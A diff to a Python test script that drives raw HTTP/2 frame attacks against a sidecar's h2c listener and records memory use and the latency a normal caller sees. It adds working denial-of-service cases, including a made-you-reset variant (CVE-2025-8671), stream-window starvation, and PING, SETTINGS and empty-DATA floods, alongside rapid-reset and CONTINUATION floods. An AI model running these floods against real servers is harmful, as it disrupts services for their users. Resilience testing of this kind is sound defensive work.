@@ -1,8 +1,12 @@
 """HTTP/2 abuse against a sidecar's h2c listener, frame by frame (raw frames, `hpack` for
 header blocks), reporting what the sidecar did as one JSON line.
 
-Usage: h2_abuse.py HOST:PORT CASE
+Usage: h2_abuse.py HOST:PORT CASE [SIDECAR-PID [CONNECTIONS]]
   rapid-reset         1,000 streams opened and reset at once (CVE-2023-44487)
+  made-you-reset      1,000 streams the sidecar itself must reset (a WINDOW_UPDATE of 0 on
+                      each), no RST_STREAM from the client (CVE-2025-8671)
+  cancels-among-calls 300 calls answered, each followed by a call the client cancels: what an
+                      app cancelling by deadline does, not a reset loop
   continuation-flood  one header block in 10,000 tiny CONTINUATION frames, never ended
   big-headers         a 64 KiB header value (the advertised list limit is 16 KiB)
   too-many-streams    1,100 open streams on one connection (1,024 advertised)
@@ -11,12 +15,24 @@ Usage: h2_abuse.py HOST:PORT CASE
   malformed           requests that RFC 9113 calls malformed (connection-specific headers, te
                       other than trailers, upper-case names, misplaced or unknown
                       pseudo-headers), then a good one with look-alike headers, on one connection
+  unread-streams      CONNECTIONS connections (8) that open their windows wide, each ask for
+                      8 server streams of 64 MiB and never read the socket, held 4 s
+  zero-window         8 calls for 64 MiB server streams on one connection that reads its socket
+                      but keeps every stream window at 0, held 4 s
+  ping-flood          PINGs sent as fast as the socket takes them, ACKs never read, for 4 s
+  settings-flood      the same with empty SETTINGS frames
+  empty-data          a request stream sent 1,000 empty and padding-only DATA frames
   then-healthy        (after any case) a normal call on a new connection
+
+The held cases report the sidecar's RSS (from /proc, before and at most during the hold) and
+the calls a well-behaved caller made on another connection before and during the hold: how
+many were answered OK, and their p50 and p99.
 """
 import json
 import socket
 import struct
 import sys
+import threading
 import time
 
 import hpack
@@ -36,9 +52,16 @@ def frame(kind, flags, stream, payload=b""):
 
 
 class Connection:
-    def __init__(self, target):
+    def __init__(self, target, receive_buffer=None):
         host, port = target.rsplit(":", 1)
-        self.sock = socket.create_connection((host, int(port)), timeout=10)
+        if receive_buffer:
+            # A small receive buffer: a peer that does not read stops the sender sooner.
+            self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
+            self.sock.settimeout(10)
+            self.sock.connect((host, int(port)))
+        else:
+            self.sock = socket.create_connection((host, int(port)), timeout=10)
         self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
         self.buffer = b""
         self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
@@ -119,6 +142,38 @@ def rapid_reset(target):
         burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
     c.send(burst)
     return summary(*c.read_frames(3))
+
+
+def made_you_reset(target):
+    c = Connection(target)
+    burst = b""
+    for i in range(1000):
+        stream = 1 + 2 * i
+        burst += c.request("/t.T/Slow", stream, end_stream=False)
+        burst += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
+    c.send(burst)
+    return summary(*c.read_frames(3))
+
+
+def cancels_among_calls(target):
+    c = Connection(target)
+    answered = 0
+    for i in range(300):
+        call, cancelled = 1 + 4 * i, 3 + 4 * i
+        c.send(c.request("/t.T/Unary", call, end_stream=False)
+               + frame(DATA, END_STREAM, call, b"\x00\x00\x00\x00\x02ok")
+               + c.request("/t.T/Slow", cancelled, end_stream=False)
+               + frame(RST_STREAM, 0, cancelled, struct.pack(">I", 8)))
+        frames, closed = c.read_frames(5, until_status=True)
+        answered += sum(1 for k, _, s, p in frames if k == HEADERS and s == call
+                        and p.get("grpc-status") == "0")
+        if closed or any(k == GOAWAY for k, _, _, _ in frames):
+            result = summary(frames, closed)
+            result["answered"] = answered
+            return result
+    result = summary(*c.read_frames(0.5))
+    result["answered"] = answered
+    return result
 
 
 def continuation_flood(target):
@@ -212,6 +267,163 @@ def malformed(target):
     return result
 
 
+def rss_kib(pid):
+    with open(f"/proc/{pid}/status") as status:
+        for line in status:
+            if line.startswith("VmRSS:"):
+                return int(line.split()[1])
+    return 0
+
+
+def percentile(values, fraction):
+    if not values:
+        return None
+    ordered = sorted(values)
+    return round(ordered[min(len(ordered) - 1, int(fraction * len(ordered)))], 2)
+
+
+class Prober(threading.Thread):
+    """A well-behaved caller: unary calls one after another on a connection of its own,
+    each timed until its grpc-status."""
+
+    def __init__(self, target):
+        super().__init__(daemon=True)
+        self.target, self.stop, self.phase = target, threading.Event(), "before"
+        self.calls = {"before": [], "during": []}
+
+    def run(self):
+        c, stream = Connection(self.target), 1
+        while not self.stop.is_set():
+            phase, start = self.phase, time.monotonic()
+            c.send(c.request("/t.T/Unary", stream, end_stream=False)
+                   + frame(DATA, END_STREAM, stream, b"\x00\x00\x00\x00\x02ok"))
+            frames, closed = c.read_frames(10, until_status=True)
+            ok = any(k == HEADERS and s == stream and p.get("grpc-status") == "0"
+                     for k, _, s, p in frames)
+            self.calls[phase].append((ok, (time.monotonic() - start) * 1000))
+            if closed:
+                c = Connection(self.target)
+                stream = -1
+            stream += 2
+            time.sleep(0.02)
+
+    def report(self):
+        result = {}
+        for phase, calls in self.calls.items():
+            times = [ms for ok, ms in calls if ok]
+            result[phase] = {"ok": len(times), "failed": len(calls) - len(times),
+                             "p50_ms": percentile(times, 0.5), "p99_ms": percentile(times, 0.99)}
+        return result
+
+
+def stream_request(c, stream, count=1024, size=65536):
+    """A ServerStream call for `count` messages of `size` bytes."""
+    body = count.to_bytes(4, "big") + size.to_bytes(4, "big")
+    return (c.request("/t.T/ServerStream", stream, end_stream=False)
+            + frame(DATA, END_STREAM, stream, b"\x00" + len(body).to_bytes(4, "big") + body))
+
+
+def held(target, pid, attack, seconds=4):
+    """Runs `attack` (which opens what it holds and returns it) for `seconds` while a prober
+    calls on another connection and the sidecar's RSS is sampled."""
+    prober = Prober(target)
+    prober.start()
+    time.sleep(1)
+    before = rss_kib(pid)
+    prober.phase = "during"
+    kept = attack()
+    peak, end = before, time.monotonic() + seconds
+    while time.monotonic() < end:
+        peak = max(peak, rss_kib(pid))
+        time.sleep(0.1)
+    prober.stop.set()
+    prober.join(12)
+    result = {"rss_before_kib": before, "rss_peak_kib": peak, "calls": prober.report()}
+    for c in kept:
+        c.sock.close()
+    return result
+
+
+WIDE = 2**31 - 1
+
+
+def unread_streams(target, pid, connections):
+    def attack():
+        opened = []
+        for _ in range(connections):
+            c = Connection(target, receive_buffer=4096)
+            burst = (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, WIDE))
+                     + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WIDE - 65535)))
+            for i in range(8):
+                burst += stream_request(c, 1 + 2 * i)
+            c.send(burst)
+            opened.append(c)
+        return opened
+    return held(target, pid, attack)
+
+
+def zero_window(target, pid):
+    stop = threading.Event()
+
+    def attack():
+        c = Connection(target)
+        burst = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
+        for i in range(8):
+            burst += stream_request(c, 1 + 2 * i)
+        c.send(burst)
+
+        def read():  # reads (and ACKs) everything, and never opens a stream window
+            while not stop.is_set():
+                _, closed = c.read_frames(0.2)
+                if closed:
+                    break
+        threading.Thread(target=read, daemon=True).start()
+        return [c]
+    result = held(target, pid, attack)
+    stop.set()
+    return result
+
+
+def control_flood(target, pid, kind):
+    """Floods from a thread for as long as the hold lasts; reports how much the sidecar took
+    (a sidecar that stops reading takes little more than the socket buffers hold)."""
+    sent = {"bytes": 0, "closed_after_s": None}
+
+    def attack():
+        c = Connection(target, receive_buffer=4096)
+        c.sock.settimeout(0.05)
+        one = frame(PING, 0, 0, b"12345678") if kind == "ping" else frame(SETTINGS, 0, 0)
+        burst, start = one * 1000, time.monotonic()
+
+        def flood():
+            while True:
+                try:
+                    sent["bytes"] += c.sock.send(burst)
+                except socket.timeout:
+                    continue
+                except OSError:  # the sidecar closed the connection
+                    sent["closed_after_s"] = round(time.monotonic() - start, 2)
+                    break
+        threading.Thread(target=flood, daemon=True).start()
+        return [c]
+    result = held(target, pid, attack)
+    result["sent_kib"] = sent["bytes"] // 1024
+    result["closed_after_s"] = sent["closed_after_s"]
+    return result
+
+
+def empty_data(target):
+    c = Connection(target)
+    burst = c.request("/t.T/Unary", 1, end_stream=False)
+    for i in range(1000):
+        if i % 2:
+            burst += frame(DATA, 0x8, 1, b"\x04" + b"\x00" * 4)  # PADDED: only padding
+        else:
+            burst += frame(DATA, 0, 1)
+    c.send(burst)
+    return summary(*c.read_frames(3))
+
+
 def then_healthy(target):
     c = Connection(target)
     c.send(c.request("/t.T/Unary", 1, end_stream=False)
@@ -219,11 +431,21 @@ def then_healthy(target):
     return summary(*c.read_frames(20, until_status=True))
 
 
-CASES = {"rapid-reset": rapid_reset, "continuation-flood": continuation_flood,
+CASES = {"rapid-reset": rapid_reset, "made-you-reset": made_you_reset,
+         "cancels-among-calls": cancels_among_calls, "continuation-flood": continuation_flood,
          "big-headers": big_headers, "too-many-streams": too_many_streams, "idle": idle,
-         "slowloris": slowloris, "malformed": malformed, "then-healthy": then_healthy}
+         "slowloris": slowloris, "malformed": malformed, "empty-data": empty_data,
+         "then-healthy": then_healthy}
+HELD = {"unread-streams": lambda t, pid, n: unread_streams(t, pid, n),
+        "zero-window": lambda t, pid, n: zero_window(t, pid),
+        "ping-flood": lambda t, pid, n: control_flood(t, pid, "ping"),
+        "settings-flood": lambda t, pid, n: control_flood(t, pid, "settings")}
 
 if __name__ == "__main__":
-    if len(sys.argv) != 3 or sys.argv[2] not in CASES:
+    if len(sys.argv) == 3 and sys.argv[2] in CASES:
+        print(json.dumps(CASES[sys.argv[2]](sys.argv[1])), flush=True)
+    elif len(sys.argv) in (4, 5) and sys.argv[2] in HELD:
+        count = int(sys.argv[4]) if len(sys.argv) == 5 else 8
+        print(json.dumps(HELD[sys.argv[2]](sys.argv[1], int(sys.argv[3]), count)), flush=True)
+    else:
         sys.exit(__doc__)
-    print(json.dumps(CASES[sys.argv[2]](sys.argv[1])), flush=True)
